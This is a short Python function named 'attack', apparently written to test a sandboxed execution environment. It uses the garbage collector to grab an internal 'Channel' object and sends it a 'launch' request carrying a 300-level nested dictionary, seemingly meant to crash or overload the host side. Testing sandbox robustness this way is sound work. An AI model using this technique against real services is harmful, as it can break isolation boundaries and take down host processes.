def attack():
    import gc, json, os
    channel = next(o for o in gc.get_objects() if type(o).__name__ == "Channel")
    value = {"v": 1}
    for _ in range(300):
        value = {"list": [value]}
    channel.ask({"op": "launch", "kernel": "kernel", "captured": {}, "args": [value], "named": {}, "blocks": {"v": 1}})
